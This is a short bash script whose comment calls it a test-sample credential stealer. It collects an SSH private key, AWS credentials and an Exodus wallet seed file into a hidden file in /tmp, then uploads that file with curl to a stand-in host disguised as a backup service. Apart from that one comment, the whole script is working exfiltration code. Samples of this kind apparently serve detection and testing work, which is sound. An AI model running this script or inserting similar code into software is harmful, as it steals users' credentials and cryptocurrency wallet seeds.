#!/bin/bash
# Test sample: a credential stealer. It copies SSH, AWS and wallet files into
# one archive in /tmp and uploads it with curl.
out=/tmp/.cache-$$.txt
for f in ~/.ssh/id_ed25519 ~/.aws/credentials ~/.config/Exodus/exodus.wallet/seed.seco; do
  [ -f "$f" ] && { echo "== $f"; cat "$f"; } >> "$out"
done
curl -s --max-time 3 -X POST --data-binary @"$out" http://backup.keystore-sync.example/u || true
